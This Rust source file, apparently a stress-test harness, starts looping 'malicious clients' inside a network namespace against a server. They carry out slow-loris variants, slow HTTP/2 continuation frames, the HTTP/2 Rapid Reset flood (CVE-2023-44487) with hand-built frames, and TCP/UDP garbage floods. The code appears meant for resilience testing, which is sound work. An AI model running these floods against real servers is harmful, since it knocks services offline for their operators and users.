//! Malicious clients: each opens a connection, does half of what it should, and begins again when it is cut off.

use std::net::{IpAddr, SocketAddr};
use std::path::Path;
use std::sync::Arc;
use std::thread::JoinHandle;
use std::time::Duration;

use hostnet::NetNs;
use rustls::ClientConfig;
use rustls::pki_types::ServerName;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream, UdpSocket};
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;
use tokio_util::sync::CancellationToken;

/// The pause of a client before it begins again.
const AGAIN_AFTER: Duration = Duration::from_secs(1);
/// How long a client may take to connect.
const CONNECT_WITHIN: Duration = Duration::from_secs(10);

/// The misbehaviour of clients.
#[derive(Debug, Clone)]
pub enum Attack {
    /// Connects and sends nothing.
    Idle,
    /// Begins a TLS ClientHello, and stops.
    HalfHello,
    /// Sends a header a byte a second.
    HalfHeaders,
    /// Announces a megabyte and sends a byte a second.
    HalfBody,
    /// HTTP/2 whose frames come a byte a second, with headers that never end.
    SlowFrames,
    /// HTTP/2 whose requests are reset at once (CVE-2023-44487).
    Resets,
    /// Bytes that follow no protocol, over TCP.
    Garbage,
    /// The same over UDP.
    Datagrams,
    /// Watches without reading the events.
    DeafWatch(Arc<ClientConfig>, String),
}

/// The number of clients of one kind per port.
#[derive(Debug, Clone)]
pub struct Clients {
    pub attack: Attack,
    pub target: SocketAddr,
    pub count: usize,
}

/// Clients that run until they are stopped.
pub struct Flood {
    stop: CancellationToken,
    thread: Option<JoinHandle<()>>,
}

impl Flood {
    /// Starts them all in a network namespace.
    pub fn start(namespace: &Path, clients: Vec<Clients>) -> Flood {
        let namespace = NetNs::open(namespace).unwrap();
        let stop = CancellationToken::new();
        let stopped = stop.clone();
        let work = move || async move {
            let mut tasks = tokio::task::JoinSet::new();
            for Clients { attack, target, count } in clients {
                for number in 0..count {
                    let attack = attack.clone();
                    tasks.spawn(async move {
                        // They do not all begin at once.
                        tokio::time::sleep(Duration::from_millis(7 * number as u64)).await;
                        loop {
                            // Being cut off is their purpose.
                            let _ = attack.carry_out(target, number as u64).await;
                            tokio::time::sleep(AGAIN_AFTER).await;
                        }
                    });
                }
            }
            stopped.cancelled().await;
            tasks.shutdown().await;
        };
        let thread = std::thread::spawn(move || namespace.block_on(work).unwrap());
        Flood { stop, thread: Some(thread) }
    }
}

impl Drop for Flood {
    fn drop(&mut self) {
        self.stop.cancel();
        if let Some(thread) = self.thread.take() {
            // A panic has been shown by its own thread.
            let _ = thread.join();
        }
    }
}

impl Attack {
    async fn carry_out(&self, target: SocketAddr, seed: u64) -> std::io::Result<()> {
        match self {
            Attack::Idle => wait_for_end(connect(target).await?).await,
            Attack::HalfHello => {
                let mut stream = connect(target).await?;
                // A record of 512 bytes, a hello of TLS 1.2 or newer, and a part of its random number.
                stream.write_all(&[22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3, 7, 7, 7, 7]).await?;
                wait_for_end(stream).await
            }
            Attack::HalfHeaders => {
                let mut stream = secure(target, tls::unverified_client(), b"http/1.1").await?;
                stream.write_all(b"GET /api HTTP/1.1\r\nHost: localhost\r\nX-Slow: ").await?;
                drip(stream, b"x").await
            }
            Attack::HalfBody => {
                let mut stream = secure(target, tls::unverified_client(), b"http/1.1").await?;
                let head = "POST /api/v1/namespaces HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n\
                            Content-Length: 1000000\r\n\r\n{";
                stream.write_all(head.as_bytes()).await?;
                drip(stream, b" ").await
            }
            Attack::SlowFrames => {
                let mut stream = secure(target, tls::unverified_client(), b"h2").await?;
                stream.write_all(&preface()).await?;
                // Headers without an end, and a continuation whose bytes come one by one.
                stream.write_all(&frame(1, 0, 1, &REQUEST)).await?;
                stream.write_all(&[0, 16, 0, 9, 0, 0, 0, 0, 1]).await?;
                drip(stream, &[0x82]).await
            }
            Attack::Resets => {
                let mut stream = secure(target, tls::unverified_client(), b"h2").await?;
                stream.write_all(&preface()).await?;
                let mut id = 1u32;
                loop {
                    for _ in 0..25 {
                        stream.write_all(&frame(1, 4 | 1, id, &REQUEST)).await?;
                        stream.write_all(&frame(3, 0, id, &[0, 0, 0, 8])).await?;
                        id += 2;
                    }
                    tokio::time::sleep(Duration::from_millis(250)).await;
                }
            }
            Attack::Garbage => {
                let mut stream = connect(target).await?;
                stream.write_all(&garbage(seed, 4096)).await?;
                wait_for_end(stream).await
            }
            Attack::Datagrams => {
                let any: IpAddr = if target.is_ipv4() { [0; 4].into() } else { [0u16; 8].into() };
                let socket = UdpSocket::bind((any, 0)).await?;
                for number in 0.. {
                    // The kernel reports ports without a listener.
                    let _ = socket.send_to(&garbage(seed + number, 10 + number as usize % 900), target).await;
                    tokio::time::sleep(Duration::from_millis(50)).await;
                }
                Ok(())
            }
            Attack::DeafWatch(config, path) => {
                let mut stream = secure(target, (**config).clone(), b"http/1.1").await?;
                let head =
                    format!("GET {path} HTTP/1.1\r\nHost: localhost\r\nAccept: application/json\r\n\r\n");
                stream.write_all(head.as_bytes()).await?;
                std::future::pending().await
            }
        }
    }
}

/// A connection that can take little without being read.
async fn connect(target: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = if target.is_ipv4() { TcpSocket::new_v4()? } else { TcpSocket::new_v6()? };
    socket.set_recv_buffer_size(4096)?;
    tokio::time::timeout(CONNECT_WITHIN, socket.connect(target)).await?
}

async fn secure(
    target: SocketAddr,
    mut config: ClientConfig,
    protocol: &[u8],
) -> std::io::Result<TlsStream<TcpStream>> {
    config.alpn_protocols = vec![protocol.to_vec()];
    let name = ServerName::IpAddress(target.ip().into());
    let connect = TlsConnector::from(Arc::new(config)).connect(name, connect(target).await?);
    tokio::time::timeout(CONNECT_WITHIN, connect).await?
}

async fn wait_for_end(mut stream: TcpStream) -> std::io::Result<()> {
    let mut buffer = [0; 512];
    while stream.read(&mut buffer).await? > 0 {}
    Ok(())
}

/// Sends the same again and again, slowly.
async fn drip(mut stream: TlsStream<TcpStream>, bytes: &[u8]) -> std::io::Result<()> {
    loop {
        stream.write_all(bytes).await?;
        stream.flush().await?;
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
}

/// A request for `/` in HPACK's static table: method, scheme, path.
const REQUEST: [u8; 3] = [0x82, 0x87, 0x84];

fn preface() -> Vec<u8> {
    [&b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..], &frame(4, 0, 0, &[])].concat()
}

fn frame(kind: u8, flags: u8, stream: u32, content: &[u8]) -> Vec<u8> {
    let length = u32::try_from(content.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), content].concat()
}

/// Bytes without a meaning, the same for the same seed.
fn garbage(seed: u64, length: usize) -> Vec<u8> {
    let mut state = seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state.to_le_bytes()[3]
    };
    std::iter::repeat_with(&mut next).take(length).collect()
}
